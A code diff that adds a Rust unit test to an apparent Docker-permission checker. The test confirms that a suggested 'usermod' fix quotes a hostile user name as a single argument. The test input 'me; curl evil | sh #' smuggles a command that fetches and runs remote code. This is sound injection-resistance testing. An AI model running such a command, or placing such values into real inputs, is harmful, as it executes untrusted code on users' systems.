@@ -115,4 +115,18 @@ mod tests {
         assert!(denied("root:x:0:").contains("group docker does not exist"));
         assert_eq!(says(&CHECK, &host(&facts::testing::sparse::engine("{}", &[]))), "pass");
     }
+
+    /// A snapshot of a stranger names the user.
+    #[test]
+    fn a_name_stays_one_word_of_the_command() {
+        let ask = "engine unix:///var/run/docker.sock /info";
+        let readings = [("stat /var/run/docker.sock", SOCKET), ("read /etc/group", "docker:x:999:other")];
+        let mut facts = host(&Sparse::new(&readings).failing(&[(ask, facts::Missing::denied())]));
+        facts.system.gids = Fact::Known(vec![1000]);
+        let name = "me; curl evil | sh #".to_owned();
+        facts.environment.variables = Fact::Known([("USER".to_owned(), name)].into());
+        let verdict = crate::judge_one(&CHECK, &facts);
+        let commands = &verdict.found().unwrap().fixes[0].commands;
+        assert_eq!(commands, &["sudo usermod -aG docker 'me; curl evil | sh #'"]);
+    }
 }
